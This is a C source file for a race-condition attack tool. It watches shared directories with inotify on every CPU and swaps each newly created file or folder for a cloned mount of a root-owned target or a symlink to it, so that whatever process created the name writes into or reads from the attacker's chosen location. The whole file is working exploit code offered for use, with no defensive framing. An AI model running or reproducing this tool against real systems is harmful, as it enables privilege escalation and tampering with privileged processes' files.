/* Puts something of root's in the place of whatever appears: mover HOW VICTIM FOLDER…
 *
 *   mount    a clone of VICTIM's mount is moved onto each new folder, one of VICTIM/file onto each new file
 *   link     each new name is moved aside and becomes a symbolic link to VICTIM
 *
 * As fast as that goes: a watcher sits on each processor, with a short time slice so that it takes the place of who
 * made the name. Sockets of JVMs are left alone. Needs a user and mount namespace of its own. Says "seen N moved N"
 * once a second.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { POOL = 32, FOLDERS_MAX = 8, TREE_CLONE = 1, EMPTY_PATH = 4 };

struct scheduling {
    unsigned size, policy;
    unsigned long long flags;
    int nice;
    unsigned priority;
    unsigned long long runtime, deadline, period;
};

static const char *victim;
static bool by_link;
static char **folders;
static atomic_int moved, seen;

struct pool {
    int fds[POOL];
    unsigned have;
};

static void fill(struct pool *pool, const char *path)
{
    while (pool->have < POOL) {
        int fd = (int)syscall(SYS_open_tree, AT_FDCWD, path, TREE_CLONE | O_CLOEXEC);
        if (fd < 0) {
            if (!pool->have)
                printf("cannot clone %s: %s\n", path, strerror(errno));
            return;
        }
        pool->fds[pool->have++] = fd;
    }
}

static void put_over(struct pool *pool, const char *folder, const char *name)
{
    char path[512], aside[600];
    snprintf(path, sizeof path, "%s/%s", folder, name);
    if (by_link) {
        snprintf(aside, sizeof aside, "%s/aside-%d", folder, atomic_load(&seen));
        if (rename(path, aside) == 0 && symlink(victim, path) == 0)
            atomic_fetch_add(&moved, 1);
        return;
    }
    int fd = pool->fds[--pool->have];
    if (syscall(SYS_move_mount, fd, "", AT_FDCWD, path, EMPTY_PATH) == 0)
        atomic_fetch_add(&moved, 1);
    close(fd);
}

static void *watch(void *which)
{
    cpu_set_t set;
    CPU_ZERO(&set);
    CPU_SET((int)(long)which, &set);
    sched_setaffinity(0, sizeof set, &set);
    struct scheduling s = {.size = sizeof s, .runtime = 100000};
    syscall(SYS_sched_setattr, 0, &s, 0);
    struct pool trees = {0}, files = {0};
    char file[512];
    snprintf(file, sizeof file, "%s/file", victim);
    int watcher = inotify_init1(IN_CLOEXEC);
    int ids[FOLDERS_MAX];
    for (int i = 0; folders[i] && i < FOLDERS_MAX; i++)
        ids[i] = inotify_add_watch(watcher, folders[i], IN_CREATE | (by_link ? 0 : IN_MOVED_TO) | IN_ONLYDIR);
    for (;;) {
        fill(&trees, victim);
        fill(&files, file);
        char events[65536] __attribute__((aligned(8)));
        ssize_t n = read(watcher, events, sizeof events);
        for (char *p = events; n > 0 && p < events + n;) {
            struct inotify_event *e = (void *)p;
            p += sizeof *e + e->len;
            struct pool *from = e->mask & IN_ISDIR ? &trees : &files;
            if (!e->len || strncmp(e->name, ".java_pid", 9) == 0 || strncmp(e->name, "aside-", 6) == 0)
                continue;
            atomic_fetch_add(&seen, 1);
            for (int i = 0; folders[i] && i < FOLDERS_MAX && from->have; i++)
                if (ids[i] == e->wd)
                    put_over(from, folders[i], e->name);
        }
    }
    return NULL;
}

int main(int argc, char **argv)
{
    if (argc < 4)
        return 2;
    by_link = strcmp(argv[1], "link") == 0;
    victim = argv[2];
    folders = argv + 3;
    for (long i = 0; i < sysconf(_SC_NPROCESSORS_ONLN); i++) {
        pthread_t thread;
        pthread_create(&thread, NULL, watch, (void *)i);
    }
    for (;;) {
        sleep(1);
        printf("seen %d moved %d\n", seen, moved);
        fflush(stdout);
    }
}
